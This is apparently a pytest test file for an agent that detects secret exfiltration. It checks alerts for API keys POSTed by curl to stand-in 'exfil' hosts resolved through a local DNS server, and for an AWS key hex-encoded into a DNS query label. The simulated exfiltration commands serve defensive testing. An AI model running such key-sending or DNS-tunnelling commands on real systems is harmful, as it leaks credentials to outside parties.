"""DNS on the real kernel (issue 4): answers name the destination, queries are scanned.

A tiny DNS server (kharness/dns.py: this test process, outside the test cgroup) listens on a
random 127.53.x.y address, port 53. Clients run inside the test cgroup AND in a private mount namespace whose
/etc/resolv.conf is a bind mount naming that server, so the host's resolver configuration is
never touched. The clients resolve through glibc (getaddrinfo: connect + sendmmsg + recvfrom),
with no --resolve: the only way the agent can learn the name is the DNS answer it captured.
"""

import json
import time

import pytest

from kharness.dns import DnsServer, with_resolver
from kharness.servers import RecordingServer

ALERT_TIMEOUT = 5.0
QUIET_PERIOD = 3.0


def _wait_counter(agent, suffix: str, minimum: int = 1, timeout: float = ALERT_TIMEOUT) -> int:
    """The counter once it reaches `minimum` (the stats file is rewritten about every second)."""
    deadline = time.monotonic() + timeout
    while agent.counter(suffix) < minimum and time.monotonic() < deadline:
        time.sleep(0.1)
    return agent.counter(suffix)


@pytest.fixture
def dns_server():
    servers = []

    def start(names):
        servers.append(DnsServer(names))
        return servers[-1]

    yield start
    for s in servers:
        s.close()


def _curl_post(url: str, body_file) -> list[str]:
    return ["curl", "-sS", "--fail", "--noproxy", "*", "--max-time", "15", "-H",
            "Content-Type: application/json", "--data-binary", f"@{body_file}", url]


def _alerts_text(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _post_key(clients, registry, scratch, dns, kind: str, url: str, tcp: bool = False) -> None:
    """curl POSTs a fresh `kind` key as JSON to `url`, its name resolved through `dns`."""
    body = scratch / "body.json"
    body.write_text(json.dumps({"api_key": registry.new(kind)}))
    clients.run(with_resolver(dns.resolv_conf(scratch, tcp=tcp), _curl_post(url, body)))


def _destination(agent, provider: str) -> tuple[dict, str]:
    """The first `provider` alert's destination, and the alerts as text for a failure."""
    alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == provider,
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert\n{agent.diagnostics()}"
    return alerts[0]["destination"], _alerts_text(agent, alerts)


def test_plain_http_to_a_name_resolved_by_dns_alerts_with_that_name(
        agent, clients, http_server, dns_server, registry, scratch):
    dns = dns_server({"exfil-dns.test": "127.0.0.1"})
    _post_key(clients, registry, scratch, dns, "openai",
              f"http://exfil-dns.test:{http_server.port}/v1/collect")
    assert "exfil-dns.test" in dns.queries, "curl did not resolve through the test DNS server"
    assert http_server.wait_for_requests(1), "the request never reached the server"

    dest, shown = _destination(agent, "openai")
    assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
        "exfil-dns.test", "dns", "127.0.0.1", http_server.port), shown
    assert _wait_counter(agent, "dns_addresses_learned") >= 1


def test_a_name_resolved_over_tcp_names_the_destination_too(
        agent, clients, http_server, dns_server, registry, scratch):
    # resolv.conf "options use-vc": glibc asks over TCP and reads the answer with read(), the
    # length prefix and the message apart.
    dns = dns_server({"exfil-tcp.test": "127.0.0.1"})
    _post_key(clients, registry, scratch, dns, "anthropic",
              f"http://exfil-tcp.test:{http_server.port}/v1/messages", tcp=True)
    assert dns.tcp_queries >= 1, "curl did not resolve over TCP"
    assert http_server.wait_for_requests(1)

    dest, shown = _destination(agent, "anthropic")
    assert (dest["host"], dest["name_source"]) == ("exfil-tcp.test", "dns"), shown


def test_an_aaaa_answer_names_an_ipv6_destination(
        agent, clients, dns_server, registry, scratch):
    dns = dns_server({"exfil-v6.test": "::1"})
    server = RecordingServer(host="::1")
    try:
        _post_key(clients, registry, scratch, dns, "openai",
                  f"http://exfil-v6.test:{server.port}/v1/collect")
        assert server.wait_for_requests(1), "the request never reached the server on ::1"

        dest, shown = _destination(agent, "openai")
        assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
            "exfil-v6.test", "dns", "::1", server.port), shown
    finally:
        server.close()


def test_plain_http_to_the_expected_provider_name_from_dns_is_quiet(
        agent, clients, http_server, dns_server, registry, scratch):
    """The DNS name is the destination's identity (design §3): an OpenAI key going to the
    address the resolver gave for api.openai.com is an expected destination, as it is with SNI.
    The counter proves the key was seen and judged, not missed."""
    dns = dns_server({"api.openai.com": "127.0.0.1"})
    _post_key(clients, registry, scratch, dns, "openai",
              f"http://api.openai.com:{http_server.port}/v1/chat/completions")
    assert http_server.wait_for_requests(1)

    assert _wait_counter(agent, "secrets_to_expected_destinations") >= 1, agent.diagnostics()
    assert _wait_counter(agent, "dns_addresses_learned") >= 1
    time.sleep(QUIET_PERIOD)
    openai = [a for a in agent.alerts() if a["secret"]["provider"] == "openai"]
    assert not openai, _alerts_text(agent, openai)


def test_dns_query_carrying_a_hex_encoded_key_alerts(
        agent, clients, dns_server, registry, scratch):
    dns = dns_server({"exfil-dns.test": "127.0.0.1"})
    key = registry.new("aws-id")
    label = key.encode().hex()  # 40 characters: one label
    name = f"{label}.exfil-dns.test"
    clients.run(with_resolver(dns.resolv_conf(scratch), ["getent", "hosts", name]),
                check=False)  # NXDOMAIN: getent exits 2
    assert name in dns.queries, f"query not seen by the test DNS server: {dns.queries}"

    alerts = agent.wait_for_alerts(lambda a: a["secret"]["type"] == "aws-access-key-id",
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for the key in a DNS label\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["destination"]["ip"] == dns.address, _alerts_text(agent, alerts)
    assert alert["destination"]["port"] == 53
    assert alert["destination"]["transport"] == "udp"
    assert alert["process"]["comm"] == "getent"
    assert "dns" in alert["evidence"]["decoding"], _alerts_text(agent, alerts)
